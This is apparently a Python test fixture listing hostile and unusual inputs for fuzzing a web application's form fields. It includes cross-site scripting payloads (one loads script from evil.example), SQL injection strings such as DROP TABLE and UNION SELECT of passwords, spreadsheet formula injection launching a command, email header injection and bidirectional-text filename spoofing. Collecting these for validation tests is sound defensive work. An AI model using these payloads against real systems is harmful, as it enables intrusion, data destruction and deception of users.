"""A corpus of hostile and odd inputs, thrown at every form field by the tests."""

from __future__ import annotations

SCRIPT_AND_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003e",
]
ATTRIBUTE_BREAKERS = [
    "\"", "'", "`", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"", "=", "==", "+", "-", "@", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1-1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1",
]
SQL = [
    "' OR '1'='1", "'; DROP TABLE caseapp_submission; --", "\" OR \"\"=\"", "1; SELECT 1",
    "' UNION SELECT password FROM auth_user --", "admin'--", "%", "_", "%%", "\\",
    "\\'", "' OR 1=1 LIMIT 1 --", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--",
    "$$; DROP TABLE x; $$",
]
CONTROL = [
    "\x00", "a\x00b", "\x01\x02\x03", "\x07bell", "\x08backspace", "\x1b[31mred\x1b[0m",
    "line\nbreak", "carriage\rreturn", "tab\tchar", "\x7f", "\x85next line",
    "\u2028line separator", "\u2029paragraph separator", "\ufeffbom", "zero\u200bwidth",
    "\u200eleft-to-right mark", "\u200fright-to-left mark",
]
BIDI = [
    "\u202eevil.exe", "abc\u202dxyz", "\u202aembedding", "\u202bembedding",
    "\u2066isolate\u2069", "\u2067isolate\u2069", "\u2068first strong\u2069",
    "Robert\u202e\u2066", "\u202egnp.exe",
]
UNICODE = [
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "Zoë Ångström", "José Ñúñez", "Łukasz Żółć", "Ærøskøbing",
    "山田太郎", "김민준", "محمد عبدالله", "דוד לוי", "Ελένη Παπαδοπούλου", "Иван Петров",
    "ﷺ", "Z̴̡̪͔̈́a̵l̶g̷o̶", "ǅemal", "ß", "ﬁ ligature", "İstanbul", "ᴬᴮᶜ", "𝕳𝖊𝖑𝖑𝖔",
    "A" + "\u0301" * 50, "\U0010ffff", "\ud7ff", "O'Brien", "Mary-Jane Smith",
    "de la Torre", "X Æ A-12", "  leading and trailing  ", "   ",
]
SIZES = ["", "a", "x" * 199, "x" * 200, "x" * 201, "x" * 254, "x" * 255, "x" * 1000,
         "x" * 10_000, "y" * 100_000, "é" * 100_000, "😀" * 30_000]
EMAILS = [
    "plain", "@example.com", "user@", "user@@example.com", "user@example", "user@.com",
    "user@example..com", "user name@example.com", "user@exa mple.com", "<user@example.com>",
    "user@example.com\nBcc: victim@example.com", "user@example.com%0ABcc:x@example.com",
    "\"quoted\"@example.com", "user+tag@example.com", "USER@EXAMPLE.COM",
    "ünïcødé@exämple.com", "user@[127.0.0.1]", "user@localhost", "a" * 64 + "@example.com",
    "a" * 65 + "@example.com", "x@" + "a" * 250 + ".com", "user@example.com.",
    ".user@example.com", "user.@example.com", "us..er@example.com",
]
PHONES = [
    "+1 (415) 555-0100", "415.555.0100", "4155550100", "+44 20 7946 0958", "555", "123456",
    "call me", "+", "++1 415 555 0100", "+1-415-555-0100 ext 5", "(((((((", "0" * 25,
    "0" * 26, "١٢٣٤٥٦٧٨٩٠", "４１５５５５０１００", "+1 415 555 0100; DROP TABLE",
]
FORGED_CODES = [
    "us", "U S", "US ", " US", "USA", "yes ", "YES", "true", "1", "0", "null", "None",
    "undefined", "[]", "{}", "eligible", "other", "both,neither", "sent&received",
]

CORPUS = (SCRIPT_AND_MARKUP + ATTRIBUTE_BREAKERS + SQL + CONTROL + BIDI + UNICODE + SIZES
          + EMAILS + PHONES + FORGED_CODES)
